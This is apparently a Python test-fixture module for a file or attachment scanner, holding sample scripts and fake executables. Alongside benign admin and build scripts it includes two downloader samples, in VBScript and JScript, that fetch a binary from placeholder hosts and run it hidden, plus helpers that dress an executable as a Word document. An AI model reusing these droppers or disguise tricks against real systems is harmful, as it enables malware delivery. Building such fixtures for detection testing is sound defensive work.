"""Scripts and programs that several cases send, honest and not; all of them inert."""
from . import icons
from .pe import Pe

# What developers and administrators write.
PS1 = """<#
.SYNOPSIS
  Collects disk usage of all servers and writes a report.
#>
param([string]$Server = "localhost", [string]$Out = "report.csv")
$ErrorActionPreference = "Stop"
$disks = Get-WmiObject Win32_LogicalDisk -ComputerName $Server -Filter "DriveType=3"
foreach ($d in $disks) {
    [pscustomobject]@{ Server = $Server; Drive = $d.DeviceID; FreeGB = [math]::Round($d.FreeSpace / 1GB, 1) } | Export-Csv $Out -Append -NoTypeInformation
}
# update of the tool itself
Invoke-WebRequest "https://intra.example.co.jp/tools/version.txt" -OutFile "$env:TEMP\\version.txt"
"""
BAT = (
    "@echo off\r\n"
    "rem build and test\r\n"
    "setlocal\r\n"
    "set OUT=build\r\n"
    "if exist %OUT% rmdir /s /q %OUT%\r\n"
    "mkdir %OUT%\r\n"
    "cl /nologo /W4 /Fo%OUT%\\ src\\*.c\r\n"
    "if errorlevel 1 exit /b 1\r\n"
    "%OUT%\\test.exe\r\n")
JS = (
    "'use strict';\n"
    "const fs = require('fs');\n"
    "const path = require('path');\n"
    "function build(dir) {\n"
    "  for (const f of fs.readdirSync(dir)) {\n"
    "    const s = fs.readFileSync(path.join(dir, f), 'utf8');\n"
    "    fs.writeFileSync(path.join('dist', f), s.replace(/\\s+/g, ' '));\n"
    "  }\n"
    "}\n"
    "build(process.argv[2] || 'src');\n"
    "module.exports = { build };\n")
VBS = (
    "Option Explicit\r\n"
    "' 帳票を印刷する\r\n"
    "Dim fso, f\r\n"
    "Set fso = CreateObject(\"Scripting.FileSystemObject\")\r\n"
    "For Each f In fso.GetFolder(\".\\print\").Files\r\n"
    "  WScript.Echo f.Name\r\n"
    "Next\r\n")
# A minified library.
MINI = (
    "!function(t,e){\"object\"==typeof exports?module.exports=e():t.L=e()}(this,function(){"
    "var a=[\"\\x66\\x6f\",\"charAt\",\"fromCharCode\",\"length\"];function n(t){return String.fromCharCode.apply(null,t)}" +
    "".join("function f%d(t,e){return t[a[%d]](e)||unescape(encodeURIComponent(t))}" % (i, i % 4) for i in range(200)) +
    "return{x:n,y:eval,z:atob}});")

# Scripts that would fetch and run, from hosts that cannot exist.
FETCH_VBS = (
    "' \r\n"
    "On Error Resume Next\r\n"
    "Dim a, b, c\r\n"
    "Set a = CreateObject(StrReverse(\"PTTHLMX.2LMXSM\"))\r\n"
    "a.Open \"GET\", \"http://cdn.example.invalid/i.jpg\", False\r\n"
    "a.Send\r\n"
    "Set b = CreateObject(\"ADO\" & \"DB.St\" & \"ream\")\r\n"
    "b.Type = 1: b.Open: b.Write a.responseBody\r\n"
    "b.SaveToFile CreateObject(\"WScript.Shell\").ExpandEnvironmentStrings(\"%TEMP%\") & \"\\i.exe\", 2\r\n"
    "CreateObject(\"WScript.Shell\").Run \"%TEMP%\\i.exe\", 0\r\n")
FETCH_JS = (
    "var w=WScript.CreateObject('WScript.Shell');"
    "var x=new ActiveXObject('MSXML2.XMLHTTP');"
    "x.open('GET','http://dl.example.invalid/a.bin',0);"
    "x.send();"
    "var s=new ActiveXObject('ADODB.Stream');"
    "s.Type=1;"
    "s.Open();"
    "s.Write(x.ResponseBody);"
    "s.SaveToFile(w.ExpandEnvironmentStrings('%TEMP%')+'\\\\a.exe',2);"
    "w.Run('%TEMP%\\\\a.exe',0);")


def installer(signed=False, product="Example Printer Driver", company="Example Software K.K.", name="Setup.exe"):
    p = Pe(machine=0x8664).icon(icons.logo()).version(
        CompanyName=company, ProductName=product, FileDescription=product + " Setup", FileVersion="3.1.4",
        OriginalFilename=name, LegalCopyright="(C) 2016 " + company)
    return (p.sign() if signed else p).bytes()


def lure():
    """A program that is dressed as a document."""
    return Pe().icon(icons.document()).version(FileDescription="Microsoft Word", CompanyName="Microsoft Corporation").bytes()
